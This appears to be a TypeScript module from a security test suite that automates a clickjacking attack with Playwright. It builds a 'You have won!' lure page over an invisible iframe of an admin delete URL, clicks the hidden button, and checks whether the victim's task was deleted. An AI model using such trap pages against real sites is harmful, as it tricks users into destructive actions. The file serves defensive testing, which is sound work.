import type { Frame, Page } from "playwright-core";
import { SetupError } from "../../check/setup-error.ts";
import { attack } from "./attack.ts";
import { withAttackerPage } from "./attacker-page.ts";
import { addTask, hasTask, register } from "./client.ts";
import { findFrame } from "./frame.ts";

/** The frame is invisible, above the page of the attacker. */
const createTrapPage = (url: string) =>
  `<h1>You have won!</h1><p>Click here.</p>
   <iframe src="${url}" style="position:fixed;inset:0;width:100%;height:100%;opacity:0"></iframe>`;

/** Clickjacking: an administrator clicks on the visible page, and presses a button in the invisible frame. */
export default attack({
  name: "tasks deleted by clickjacking, of 1",
  async attempt({ api, browser, cookies }) {
    const victim = await register(api);
    const task = await addTask(api, victim);
    const url = new URL(`/admin/tasks/${task.id}/delete`, api).href;
    await withAttackerPage(
      { browser, cookies, html: createTrapPage(url) },
      async (page, address) => {
        await page.goto(address);
        const frame = findFrame(page, url);
        if (frame) await clickUnseen(page, frame);
      },
    );
    return (await hasTask(api, victim, task)) ? 0 : 1;
  },
});

/** The attacker knows the position of the button in the frame. */
async function clickUnseen(page: Page, frame: Frame): Promise<void> {
  const box = await frame.getByRole("button", { name: /delete/i }).boundingBox();
  if (!box) throw new SetupError("The page that confirms a deletion has no button for it.");
  const responsePromise = page.waitForResponse(
    (response) => response.request().method() === "POST",
  );
  await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
  await responsePromise;
}
